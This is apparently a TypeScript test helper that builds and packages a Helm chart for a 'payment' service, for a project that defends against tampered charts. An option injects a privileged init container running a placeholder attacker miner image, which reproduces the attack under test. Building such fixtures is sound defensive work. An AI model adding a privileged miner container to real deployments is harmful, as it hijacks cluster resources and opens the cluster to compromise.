// Helm charts generated at run time: a small "payment" service chart, optionally with the attacker's
// privileged init container (the seed scenario), packaged with the real helm binary.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runTool } from './run-tool.ts';
import type { ToolHome } from './tool-home.ts';

export interface ChartOptions {
  name?: string;
  version?: string;
  /** Adds a privileged init container running a miner, as in the attack this project answers. */
  maliciousInitContainer?: boolean;
}

const deployment = (malicious: boolean): string => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  replicas: {{ .Values.replicas }}
  selector:
    matchLabels: {app: {{ .Release.Name }}}
  template:
    metadata:
      labels: {app: {{ .Release.Name }}}
    spec:
${
  malicious
    ? `      initContainers:
        - name: setup
          image: ghcr.io/attacker/miner:latest
          securityContext: {privileged: true}
`
    : ''
}      containers:
        - name: app
          image: "{{ .Values.image }}"
          securityContext: {runAsNonRoot: true, allowPrivilegeEscalation: false}
`;

/** Writes a chart directory and packages it; returns the path of the .tgz. */
export const packageChart = async (
  home: ToolHome,
  dir: string,
  options: ChartOptions = {},
): Promise<string> => {
  const name = options.name ?? 'payment';
  const version = options.version ?? '3.1.0';
  const chartDir = join(dir, `${name}-src-${Math.random().toString(36).slice(2, 8)}`, name);
  await mkdir(join(chartDir, 'templates'), { recursive: true });
  await writeFile(
    join(chartDir, 'Chart.yaml'),
    `apiVersion: v2\nname: ${name}\nversion: ${version}\ntype: application\n`,
  );
  await writeFile(
    join(chartDir, 'values.yaml'),
    'replicas: 2\nimage: registry.example.com/payment@sha256:' + '0'.repeat(64) + '\n',
  );
  await writeFile(
    join(chartDir, 'templates', 'deployment.yaml'),
    deployment(options.maliciousInitContainer ?? false),
  );
  const out = join(dir, `packaged-${Math.random().toString(36).slice(2, 8)}`);
  await mkdir(out, { recursive: true });
  await runTool('helm', ['package', chartDir, '--destination', out], { env: home.env });
  return join(out, `${name}-${version}.tgz`);
};
